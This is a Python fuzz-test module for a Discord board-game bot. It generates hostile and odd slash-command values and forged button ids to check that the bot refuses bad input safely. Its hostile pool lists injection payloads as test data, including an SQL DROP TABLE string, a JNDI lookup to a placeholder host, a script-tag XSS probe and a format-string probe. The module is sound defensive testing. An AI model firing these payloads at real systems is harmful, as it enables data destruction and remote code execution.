"""Hostile input for the Discord-level fuzz tests: option values, forged custom ids, a seeded mix.

Values come in two pools:

* :data:`HOSTILE` can never be part of a legal request (no such piece, cell, slot or card; junk,
  injection, control characters, 6000-character strings...). A case that uses one must be refused
  with an ephemeral message and must change nothing in the database.
* :data:`TABLE_DECISIONS` are the table's own notation (skip a turn, remove a seat): valid engine
  actions, but never a player's to send, so they are hostile everywhere a player types or clicks
  (they are part of :data:`HOSTILE`, and forged Confirm buttons carry them too).
* :data:`ODD` is strange but possibly meaningful (real card ids, full-width or Arabic-Indic
  digits the engine may accept, lower-case pieces, whitespace that an optional field may read as
  "not given"). Anything may happen, as long as the bot answers,
  logs no error and every game still replays to its stored state.

The command list is read from the synced schema, so commands added later are fuzzed as well.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

STRING, INTEGER, BOOLEAN, USER, CHANNEL, ROLE, MENTIONABLE, NUMBER = 3, 4, 5, 6, 7, 8, 9, 10

TABLE_DECISIONS: tuple[str, ...] = (
    "skip", "SKIP", "remove 1", "remove 2", "remove 4", "  Remove   2 ", "remove 0", "remove 99",
    "pular", "Remover 2", "remover  1",  # the Portuguese notation parses to the same decisions
)
"""Table-decision notation: only a vote, the turn clock or the host's replace may apply these."""

HOSTILE: tuple[str, ...] = (
    "Z9", "L33", "l3l3", "X", "pentomino", "0", "-1", "99999999999999999999", "1e9", "NaN",
    "null", "A0 F6", "A1 A1 A1 A1 A1 A1", "Z99", "a1,,b2;;c3", "F1 G2 H3", "A6", "E0",
    "white 0", "white 5", "black 9", "grid 10", "purple 2", "W99", "B00", "Q01", "W-1", "white ²", "+²",
    "'; DROP TABLE games; --", '" OR 1=1 --', "{name}", "{0}", "%s%s%n", "${jndi:ldap://x.invalid/a}",
    "<script>alert(1)</script>", "@everyone", "@here", "<@&1>", "||spoiler||", "```", "\\", "*_~`|>",
    "\x00", "\x00A1", "\u200b", "\u202eA1 A2", "\ufeff", "🟥🟧", "𝕃𝟛", "ǅ", "İ", "ﬀ",
    "x" * 6000, "🟥" * 2000, "A1 " * 1500, "9" * 4400, "on at on at on", "at at", ";;;;",
    "master ;", "place on at", "take", "recycle white 1 1 1 1", "upgrade 1 to 1 to 1",
    *TABLE_DECISIONS,
)
"""Never valid in any option of any command."""

ODD: tuple[str, ...] = (
    "W07", "B01", "W01", "B12", "w07", "l3", "1", "5", "9", "white ３", "black ٣", "A1", "A1 A2 B2",
    "a1 a2 b2", "white 1", "black 4", "take white 1", "level1", "draw", "draw black", "pass", "done",
    "upgrade 1 to 2", "place 1 on W01 at A1", "master 1 on W01 at A1", "recycle black 4 3 2 1",
    "\n\n\n", "\t", " ", "None",  # "none" is a vacation's "off"
)
"""Strange but possibly meaningful."""

SLOW_CHOICES = frozenset({"strong"})
"""Choices that start minutes of AI play (a Solo game the Strong AI plays while you watch): valid,
but the fuzz is about input, so it watches the Easy AI instead (tests/test_bot_advice.py plays a
watched game)."""

FREE_TEXT_OPTIONS = frozenset({"thread"})
"""Options where any text is a legitimate value (a thread's name): a hostile-looking value there
does not make the case hostile — the bot may well act on it."""

PLAUSIBLE: tuple[str, ...] = ("white 2", "L3", "2", "O4", "A1 A2", "B2 C2", "1 2 3 4", "level1")


@dataclass(frozen=True)
class Leaf:
    """A runnable command: its path (``"projectl play place"``) and its options as synced."""

    path: str
    options: tuple[Mapping[str, Any], ...]

    @property
    def autocompleted(self) -> list[str]:
        return [o["name"] for o in self.options if o.get("autocomplete")]


def leaves(commands: list[Mapping[str, Any]]) -> list[Leaf]:
    """Every slash command (subcommands expanded) in a synced schema."""
    found: list[Leaf] = []

    def walk(prefix: str, node: Mapping[str, Any]) -> None:
        options = node.get("options") or []
        subs = [o for o in options if o.get("type") in (1, 2)]
        if not subs:
            found.append(Leaf(prefix, tuple(options)))
        for sub in subs:
            walk(f"{prefix} {sub['name']}", sub)

    for command in commands:
        if command.get("type", 1) == 1:
            walk(command["name"], command)
    return found


@dataclass
class Values:
    """Option values for one case, and whether one of them is from the hostile pool."""

    values: dict[str, Any] = field(default_factory=dict)
    hostile: bool = False


def option_values(leaf: Leaf, rng: random.Random, members: list[Any], *, hostile_rate: float = 0.6) -> Values:
    """Random values for ``leaf``'s options within what Discord's client lets a user send."""
    out = Values()
    for option in leaf.options:
        if not option.get("required") and rng.random() < 0.4:
            continue
        kind = int(option["type"])
        if option.get("choices"):
            choices = [c["value"] for c in option["choices"] if c["value"] not in SLOW_CHOICES]
            out.values[option["name"]] = rng.choice(choices)
        elif kind == STRING:
            roll = rng.random()
            pool = HOSTILE if roll < hostile_rate else ODD if roll < hostile_rate + 0.2 else PLAUSIBLE
            value = rng.choice(pool)
            limit = int(option.get("max_length", 6000))
            if len(value) > limit:
                value = value[:limit]
            out.hostile |= pool is HOSTILE and len(value) > 0 and option["name"] not in FREE_TEXT_OPTIONS
            out.values[option["name"]] = value
        elif kind in (INTEGER, NUMBER):
            low = int(option.get("min_value", -(2**53)))
            high = int(option.get("max_value", 2**53))
            out.values[option["name"]] = rng.choice([low, high, rng.randint(low, high)])
        elif kind == BOOLEAN:
            out.values[option["name"]] = rng.random() < 0.5
        elif kind in (USER, MENTIONABLE):
            out.values[option["name"]] = rng.choice(members)
    return out


GAME_FIELDS = ("game", "other", "missing", "huge", "junk", "empty")
PANEL_STEPS = ("main", "take", "place", "puz", "at", "give", "upg", "other", "lvl", "pass", "done", "undo",
               "rec", "rs", "ms", "mc", "mp", "ma", "mok", "as", "ac", "ap", "aa", "aok", "boom", "", "L1",
               "Ü")
"""Real turn-panel steps and a few that are not (bot/discord/panel_views.py lists the real ones)."""


def forged_ids(rng: random.Random, *, game: int, other: int, clicker: int, someone: int,
               revision: int) -> Iterator[tuple[str, bool]]:
    """Endless ``(custom_id, guaranteed_invalid)`` pairs shaped like the bot's own ids.

    ``guaranteed_invalid`` is False only when every field happens to be right for the clicker
    (then the click is as good as a real button and may act)."""
    while True:
        kind = rng.choice(("lobby", "mat", "pick", "do", "master", "panel", "play", "junk"))
        gid_kind = rng.choice(GAME_FIELDS)
        gid = {"game": str(game), "other": str(other), "missing": str(game + other + 1000),
               "huge": "9" * 20, "junk": rng.choice(("abc", "-1", "1.5", "None")), "empty": ""}[gid_kind]
        uid_kind = rng.choice(("clicker", "someone", "huge", "junk"))
        uid = {"clicker": str(clicker), "someone": str(someone), "huge": "9" * 20, "junk": "x"}[uid_kind]
        rev_kind = rng.choice(("now", "old", "future", "huge", "junk"))
        rev = {"now": str(revision), "old": str(max(0, revision - 1)), "future": str(revision + 1),
               "huge": "9" * 20, "junk": "-"}[rev_kind]
        # Judged by the values, not by which generator picked them: "other" may be this very
        # game, and "old" is the current revision while it is 0.
        real_game = gid in (str(game), str(other))
        right = gid == str(game) and uid == str(clicker) and rev == str(revision)
        if kind == "lobby":  # any real lobby's button is a real button, whoever presses it
            op = rng.choice(("join", "leave", "ai", "start", "cancel", "boom", "JOIN", ""))
            yield f"pl:lobby:{op}:{gid}", op not in ("join", "leave", "ai", "start", "cancel") \
                or not real_game
        elif kind == "mat":
            yield f"pl:mat:{gid}", not real_game
        elif kind == "pick":
            piece, card = rng.choice(("L3", "Z9", "1", "")), rng.choice(("W01", "B02", "Q", ""))
            yield f"pl:pick:{gid}:{uid}:{rev}:{piece}:{card}", not right
        elif kind == "do":
            action = rng.choice(HOSTILE[:30] + TABLE_DECISIONS + ODD).replace(" ", ".")
            yield f"pl:do:{gid}:{uid}:{rev}:{action}"[:100], not right or action in (
                s.replace(" ", ".") for s in HOSTILE)
        elif kind == "master":
            op = rng.choice(("ok", "clear", "boom", ""))
            yield f"pl:master:{op}:{gid}:{uid}:{rev}", not right or op not in ("ok", "clear")
        elif kind == "panel":  # the turn panel: plp:<game>:<user>:<revision>:<step>[:<args>]
            step = rng.choice(PANEL_STEPS)
            args = rng.choice(("", ":-", ":white", ":L3", ":L3:W01", ":0:1", ":03zz.13zz", ":9:Z9:Q",
                               ":" + "z" * 80))
            yield f"plp:{gid}:{uid}:{rev}:{step}{args}"[:100], not right
        elif kind == "play":
            yield f"plp:play:{gid}", True  # only the player to move gets a panel; it changes nothing
        else:
            junk = "".join(rng.choice("abcxyz:0123456789.-_ü🟥") for _ in range(rng.randint(0, 60)))
            yield rng.choice(("pl:", "plp:")) + junk, True
